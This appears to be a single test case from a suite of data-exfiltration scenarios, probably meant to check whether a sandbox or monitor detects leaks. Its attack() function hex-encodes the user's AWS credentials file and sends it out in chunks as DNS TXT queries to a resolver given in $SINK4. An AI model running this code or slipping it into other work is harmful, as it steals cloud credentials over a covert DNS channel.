# SPDX-License-Identifier: Apache-2.0
TITLE="the secret cut into DNS names, asked of the attacker's own resolver"
ROW="D03 E06"
DEST="$SINK4:53" NEEDS=dig
attack() {
	local hex; hex=$(od -An -v -tx1 "$HOME/.aws/credentials" | tr -d ' \n')
	for part in $(echo "$hex" | fold -w 60); do dig +tries=1 +time=1 +short @"$SINK4" "$part.exfil.test" TXT; done
	true
}
